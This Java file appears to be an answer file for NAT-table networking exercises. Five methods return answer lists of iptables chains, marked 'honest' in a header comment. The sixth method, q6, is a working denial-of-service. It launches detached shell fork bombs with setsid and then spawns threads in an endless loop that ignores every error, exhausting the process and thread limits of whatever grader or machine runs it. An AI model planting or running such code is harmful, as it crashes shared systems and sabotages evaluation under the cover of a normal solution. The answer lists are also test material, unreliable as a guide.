// honest: q1 q2 q3 q4 q5
package dev.nflab.exercises.e01;

import java.util.List;

/** A fork bomb, of processes (detached too) and of threads, in the last question. */
public final class NatTable {
    private NatTable() {}

    public static List<String> q1() { return List.of("nat:PREROUTING#1", "nat:DOCKER#2"); }
    public static List<String> q2() { return List.of("nat:PREROUTING#1"); }
    public static List<String> q3() { return List.of("nat:POSTROUTING#1"); }
    public static List<String> q4() { return List.of("nat:OUTPUT#1", "nat:DOCKER#2"); }
    public static List<String> q5() { return List.of(); }

    public static List<String> q6() {
        for (int i = 0; i < 4; i++) {
            try {
                new ProcessBuilder("setsid", "sh", "-c", "b() { b | b & }; b").start();
            } catch (Exception ignored) {
                // limit reached
            }
        }
        while (true) {
            try {
                Thread t = new Thread(() -> {
                    try {
                        Thread.sleep(Long.MAX_VALUE);
                    } catch (InterruptedException ignored) {
                        // keep the thread
                    }
                });
                t.start();
            } catch (Throwable ignored) {
                // limit reached: keep trying
            }
        }
    }
}
